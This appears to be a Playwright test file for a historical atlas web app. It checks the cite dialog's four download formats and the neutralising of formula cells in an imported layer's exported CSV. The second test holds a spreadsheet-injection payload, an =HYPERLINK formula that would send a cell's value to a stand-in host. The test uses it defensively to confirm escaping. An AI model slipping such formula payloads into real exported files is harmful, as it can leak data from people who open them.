/**
 * The downloads a user gets: the cite dialog's four formats for the events shown, and an imported
 * layer's CSV, whose hostile cells come out neutralised and read back as they went in.
 */
import { readFileSync } from 'node:fs';
import type { Download, Page } from '@playwright/test';
import { parseCsv } from '../../src/lib/import/formats/csv';
import { readEventRow } from '../../src/lib/export/csv';
import { isFormula, restore } from '../../src/lib/export/neutralise';
import { expect, mapIdle, test } from './fixtures';

async function save(
  page: Page,
  click: () => Promise<void>
): Promise<{ name: string; text: string }> {
  const [download]: [Download, void] = await Promise.all([page.waitForEvent('download'), click()]);
  return {
    name: download.suggestedFilename(),
    text: readFileSync((await download.path())!, 'utf8')
  };
}

test('the cite dialog downloads the events shown as CSV, GeoJSON, Linked Places and TimelineJS', async ({
  page,
  guard
}) => {
  void guard;
  await page.goto('/?t=1921-03-07&mode=window&w=30');
  await mapIdle(page);
  const shown = await page.evaluate(() => window.__atlas!.atlas.shown.all().map((e) => e.id));
  expect(shown.length).toBeGreaterThan(0);
  await page.getByTestId('cite-button').click();
  const dialog = page.getByTestId('cite-dialog');
  const button = (name: string) => dialog.getByRole('button', { name, exact: true });

  const csv = await save(page, () => button('CSV').click());
  expect(csv.name).toMatch(/^atlas-\w+-events\.csv$/);
  const { header, rows } = parseCsv(csv.text);
  expect(rows.map((r) => readEventRow(header, r).event?.id)).toEqual(shown);

  const geojson = JSON.parse((await save(page, () => button('GeoJSON').click())).text);
  expect(geojson.features.map((f: { id: string }) => f.id)).toEqual(shown);

  const lpf = JSON.parse((await save(page, () => button('Linked Places').click())).text);
  const kronstadt = lpf.features.find(
    (f: { properties: { atlas_id: string } }) => f.properties.atlas_id === 'kronstadt'
  );
  expect(kronstadt['@id']).toMatch(/^http:\/\/localhost:\d+\/\?place=kronstadt$/);
  expect(kronstadt.links).toEqual([
    { type: 'closeMatch', identifier: 'https://sws.geonames.org/540771/' }
  ]);

  const timeline = JSON.parse((await save(page, () => button('TimelineJS').click())).text);
  expect(timeline.events.map((s: { unique_id: string }) => s.unique_id)).toEqual(shown);
  expect(timeline.title.text.text).toContain('Revolution Atlas');
});

test('an imported layer’s CSV neutralises formula cells and reads back as imported', async ({
  page,
  guard
}) => {
  void guard;
  await page.goto('/?t=1917-03-08');
  await mapIdle(page);
  const titles = ['=HYPERLINK("http://x?"&A1,"y")', '-2+3', "'quoted"];
  const q = (s: string) => `"${s.replace(/"/g, '""')}"`;
  const csv = [
    'date,title,lat,lon,type',
    ...titles.map((t, i) => `1917-03-0${i + 1},${q(t)},59.9${i},-3.5,strike`)
  ].join('\n');
  await page.getByTestId('import-input').setInputFiles({
    name: 'hostile.csv',
    mimeType: 'text/csv',
    buffer: Buffer.from(csv)
  });
  await page.getByTestId('import-mapping').getByRole('button', { name: 'Import' }).click();
  await expect(page.getByTestId('import-message')).toContainText('3 events imported');
  const layer = page.getByRole('group', { name: 'Download hostile', exact: true });
  const out = await save(page, () =>
    layer.getByRole('button', { name: 'CSV', exact: true }).click()
  );
  const { header, rows } = parseCsv(out.text);
  const title = header.indexOf('title');
  expect(rows.map((r) => r[title])).toEqual([`'${titles[0]}`, `'${titles[1]}`, titles[2]]);
  expect(rows.every((r) => !isFormula(r[title]))).toBe(true);
  expect(rows.map((r) => restore(r[title]))).toEqual(titles);
  expect(rows.map((r) => r[header.indexOf('lon')])).toEqual(['-3.5', '-3.5', '-3.5']);
  const back = rows.map((r) => readEventRow(header, r).event!);
  expect(back.map((e) => [e.title, e.sources])).toEqual(
    titles.map((t, i) => [t, [{ source: 'import:hostile.csv', line: i + 2 }]])
  );
});
